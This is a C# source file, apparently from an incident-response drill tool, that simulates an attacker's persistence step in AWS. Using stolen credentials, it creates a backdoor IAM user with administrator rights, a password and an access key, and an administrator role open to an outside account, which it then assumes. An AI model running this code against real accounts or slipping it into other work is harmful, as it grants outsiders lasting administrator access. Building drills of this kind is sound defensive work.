using Amazon.IdentityManagement.Model;
using Amazon.Runtime;
using Amazon.SecurityToken.Model;

namespace ResponseKit.Cli.Drill.Attack;

/// <summary>Ways back in: a mail user with a key of his own, a role that outsiders may enter, sessions that outlive the key.</summary>
internal sealed class BackDoors : IAttackStep
{
    private const string Administrator = "arn:aws:iam::aws:policy/AdministratorAccess";

    public async Task RunAsync(AttackContext context, CancellationToken cancellationToken)
    {
        await CreateUserAsync(context, cancellationToken);
        await CreateRoleAsync(context, cancellationToken);
    }

    private static async Task CreateUserAsync(AttackContext context, CancellationToken cancellationToken)
    {
        var iam = context.Stolen.Aws.Iam(context.Size.Regions[0]);
        var name = "user-" + context.RandomName(8);
        await iam.CreateUserAsync(new CreateUserRequest { UserName = name }, cancellationToken);
        context.Loot.Users.Add(name);
        await iam.AttachUserPolicyAsync(
            new AttachUserPolicyRequest { UserName = name, PolicyArn = "arn:aws:iam::aws:policy/AmazonSESFullAccess" }, cancellationToken);
        await iam.AttachUserPolicyAsync(new AttachUserPolicyRequest { UserName = name, PolicyArn = Administrator }, cancellationToken);
        await iam.CreateLoginProfileAsync(new CreateLoginProfileRequest { UserName = name, Password = "Drill-" + context.RandomName(16) }, cancellationToken);
        var key = (await iam.CreateAccessKeyAsync(new CreateAccessKeyRequest { UserName = name }, cancellationToken)).AccessKey;
        context.Loot.Credentials[$"the key of the back-door user {name}"] = new BasicAWSCredentials(key.AccessKeyId, key.SecretAccessKey);
        context.Timeline.Attacker($"created the user {name} with a key, a password and AmazonSESFullAccess");
    }

    private static async Task CreateRoleAsync(AttackContext context, CancellationToken cancellationToken)
    {
        var region = context.Size.Regions[0];
        var iam = context.Stolen.Aws.Iam(region);
        var name = "OrganizationSupport-" + context.RandomName(6);
        var trust = $$"""{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"AWS":["arn:aws:iam::444455556666:root","arn:aws:iam::{{DrillAccount.Id}}:root"]},"Action":"sts:AssumeRole"}]}""";
        var role = (await iam.CreateRoleAsync(new CreateRoleRequest { RoleName = name, AssumeRolePolicyDocument = trust }, cancellationToken)).Role;
        context.Loot.Roles.Add(name);
        await iam.AttachRolePolicyAsync(new AttachRolePolicyRequest { RoleName = name, PolicyArn = Administrator }, cancellationToken);
        var session = (await context.Stolen.Sts(region).AssumeRoleAsync(
            new AssumeRoleRequest { RoleArn = role.Arn, RoleSessionName = "support" }, cancellationToken)).Credentials;
        context.Loot.Credentials[$"a session of the back-door role {name}"] = session;
        context.Timeline.Attacker($"created the administrator role {name}, open to account 444455556666, and entered it");
    }
}
